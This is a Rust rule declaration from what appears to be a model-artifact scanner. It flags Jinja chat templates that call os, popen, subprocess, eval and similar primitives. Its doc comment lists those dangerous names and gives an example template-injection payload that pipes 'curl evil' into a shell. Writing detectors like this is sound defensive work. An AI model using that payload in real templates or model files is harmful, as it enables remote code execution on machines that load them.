declare_rule! {
    /// ## What it detects
    /// A Jinja template that accesses or calls attributes named after process, import or
    /// evaluation primitives: `os`, `popen`, `system`, `subprocess`, `eval`, `exec`,
    /// `import_module`, `check_output`, `modules`, frame and code attributes (`f_globals`,
    /// `gi_frame`, `co_code`). Critical when reached through a sandbox-escape chain, high
    /// otherwise.
    ///
    /// ## Why it matters
    /// These names are the end of every template-injection payload (`...os.popen('id')`). A
    /// chat template has no reason to mention them.
    ///
    /// ## Example
    /// `{{ x.__init__.__globals__.os.popen('curl evil | sh').read() }}`.
    ///
    /// ## References
    /// CWE-1336, CWE-78; MITRE ATLAS AML.T0011.000 (User Execution: Unsafe ML Artifacts);
    /// OWASP ML06:2023 (AI Supply Chain Attacks); CVE-2024-34359.
    pub static RULE = {
        code: "TPL003",
        name: "template-dangerous-call",
        family: Template,
        severity: High,
        summary: "Jinja template names os, popen, subprocess, eval or similar callables",
    };
}
